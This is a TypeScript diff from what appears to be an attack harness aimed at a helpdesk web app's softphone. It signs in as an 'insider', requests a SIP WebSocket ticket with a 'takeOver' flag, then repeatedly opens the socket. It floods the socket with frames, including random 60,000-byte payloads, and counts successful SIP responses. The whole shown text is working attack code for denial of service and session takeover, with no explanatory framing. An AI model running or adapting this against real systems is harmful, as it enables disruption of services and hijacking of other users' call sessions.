@@ -25,31 +25,44 @@ async function signIn({ url, insider }: Targets): Promise<Session> {
   return { cookie, headers: { cookie, origin, 'x-csrf-token': csrfToken, 'content-type': 'application/json' } };
 }
 
-const openPhone = ({ url }: Targets, { cookie }: Session): WebSocket => {
-  const socket = new WebSocket(`${url.replace('http', 'ws').replace(/\/$/, '')}/sip`, 'sip', {
+async function openPhone({ url }: Targets, { cookie, headers }: Session): Promise<WebSocket> {
+  const asked = { method: 'POST', headers, body: '{"takeOver":true}' };
+  const answer = await fetch(new URL('/api/v1/desk/softphone/ticket', url), asked);
+  const { ticket = '' } = (await answer.json()) as { ticket?: string };
+  const socket = new WebSocket(`${url.replace('http', 'ws').replace(/\/$/, '')}/sip?ticket=${ticket}`, 'sip', {
     headers: { cookie },
     origin: new URL(url).origin,
     perMessageDeflate: false,
   });
   socket.on('error', () => undefined);
   return socket;
-};
+}
 
 async function frames(targets: Targets): Promise<RunningAttack> {
   const session = await signIn(targets);
   let [sent, answered, gotIn, closed] = [0, 0, 0, 0];
   let socket: WebSocket | undefined;
+  let opening = false;
   return {
     once() {
       if (!socket || socket.readyState > WebSocket.OPEN) {
         if (socket) closed++;
-        socket = openPhone(targets, session);
-        socket.on('message', (data) => {
-          answered++;
-          if (/^SIP\/2\.0 2/.test(String(data))) gotIn++;
-        });
+        socket = undefined;
+        if (opening) return;
+        opening = true;
+        openPhone(targets, session)
+          .then((opened) => {
+            socket = opened.on('message', (data) => {
+              answered++;
+              if (/^SIP\/2\.0 2/.test(String(data))) gotIn++;
+            });
+          })
+          .catch(() => undefined)
+          .finally(() => {
+            opening = false;
+          });
       }
-      if (socket.readyState !== WebSocket.OPEN) return;
+      if (socket?.readyState !== WebSocket.OPEN) return;
       sent++;
       const what = sent % 4;
       if (what === 0) socket.send(randomBytes(60_000));
